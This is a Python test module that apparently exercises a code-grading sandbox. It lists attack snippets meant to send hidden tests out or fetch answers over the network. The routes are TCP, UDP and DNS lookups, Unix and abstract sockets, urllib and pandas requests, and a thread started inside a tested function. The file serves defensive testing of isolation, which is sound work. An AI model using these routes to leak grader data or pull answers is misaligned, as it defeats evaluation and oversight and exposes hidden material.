"""The network: whoever can reach it can send hidden tests home, or fetch answers."""

from tests.attacks.attack import Attack

SAYS = '''import socket

def say(family, kind, address):
    try:
        with socket.socket(family, kind) as line:
            line.settimeout(3)
            line.connect(address)
            line.send(b"$name " + repr(In).encode()[:2000])
    except OSError as error:
        print(type(error).__name__)
'''
PAIR = "import socket\none, other = socket.socketpair()\none.send(b'hello')\nassert other.recv(5) == b'hello'\none.close()\nother.close()"

ATTACKS = [
    Attack("tcp", "A connection to a server on this machine.", top=SAYS + "\nsay(socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', $port))",
           twin_top=PAIR),
    Attack("udp-and-names", "Datagrams, and one as a question for a name.",
           top=SAYS + "\nsay(socket.AF_INET, socket.SOCK_DGRAM, ('127.0.0.1', $udp))\ntry:\n    print(socket.getaddrinfo('$name.example.org', 80))\n"
                      "except OSError as error:\n    print(type(error).__name__)", twin_top=PAIR),
    Attack("unix-socket", "A socket in the file system, such as a database or a desktop has.",
           top=SAYS + "\nsay(socket.AF_UNIX, socket.SOCK_STREAM, '$unix')", twin_top=PAIR),
    Attack("abstract-socket", "A socket without a file, which no mount hides.",
           top=SAYS + "\nsay(socket.AF_UNIX, socket.SOCK_STREAM, '\\0attacks-listener')", twin_top=PAIR),
    Attack("web-request", "urllib and pandas fetch answers from a server.",
           top='''import urllib.request
try:
    urllib.request.urlopen(urllib.request.Request("http://127.0.0.1:$port/", method="$name "), timeout=3)
except Exception as error:
    print(type(error).__name__)
try:
    pd.read_csv("http://127.0.0.1:$port/$name")
except Exception as error:
    print(type(error).__name__)''',
           harm=lambda aftermath, name: "asked a web server" if any("GET /" + name in line for line in aftermath.heard) else "",
           twin_top="import urllib.parse\nurllib.parse.urlsplit('http://127.0.0.1/')"),
    Attack("from-within-a-test", "The network is used by the function under test, from a thread, once the test runs.",
           top=SAYS, answers={"words": "import threading\n\ndef words(text):\n    thread = threading.Thread(target=say, args=(socket.AF_INET, socket.SOCK_STREAM, "
                                       "('127.0.0.1', $port)))\n    thread.start()\n    thread.join(4)\n    return None"},
           twin={"words": "import threading\n\ndef words(text):\n    found = []\n    thread = threading.Thread(target=lambda: found.append(len(text.split())))\n"
                          "    thread.start()\n    thread.join()\n    return found[0]"}),
]
